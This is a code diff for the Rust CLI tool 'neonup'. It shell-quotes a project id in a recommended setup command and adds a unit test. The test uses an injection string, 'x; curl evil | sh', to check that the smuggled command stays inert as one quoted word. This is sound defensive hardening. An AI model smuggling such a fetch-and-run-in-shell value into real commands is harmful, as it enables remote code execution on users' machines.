@@ -1,6 +1,6 @@
 //! The commands that findings, choices and the plan recommend, as data.
 
-use std::fmt;
+use std::{borrow::Cow, fmt};
 
 use crate::core::step::StepId;
 
@@ -56,7 +56,9 @@ impl fmt::Display for Invocation {
         match self {
             Self::Setup => f.write_str("neonup setup"),
             Self::SetupStep(step) => write!(f, "neonup setup {step}"),
-            Self::JoinProject(id) => write!(f, "neonup setup project --project {id}"),
+            Self::JoinProject(id) => {
+                write!(f, "neonup setup project --project {}", quoted(id))
+            }
             Self::NewProject => f.write_str("neonup setup project --new"),
             Self::SetupClaimable => f.write_str("neonup setup --claimable"),
             Self::NewClaimable => f.write_str("neonup setup --claimable --new"),
@@ -76,5 +78,27 @@ impl fmt::Display for Invocation {
             Self::Demo => f.write_str("neonup demo"),
             Self::StartApp(command) => f.write_str(command),
         }
+    }
+}
+
+/// A word from outside as a shell takes it for one word, whatever it holds.
+fn quoted(word: &str) -> Cow<'_, str> {
+    let plain = |char: char| char.is_alphanumeric() || matches!(char, '-' | '_' | '.' | '•');
+    if word.chars().all(plain) {
+        return Cow::Borrowed(word);
+    }
+    shlex::try_quote(word).unwrap_or_else(|_nul| Cow::Owned(format!("'{}'", word.escape_debug())))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn an_id_of_a_server_is_one_word_of_the_command() {
+        let join = |id: &str| Invocation::JoinProject(id.to_owned()).to_string();
+        assert!(join("old-violet-32930710").ends_with("--project old-violet-32930710"));
+        assert!(join("x; curl evil | sh").ends_with("--project 'x; curl evil | sh'"));
+        assert!(!join("x\0y").contains('\0'));
     }
 }
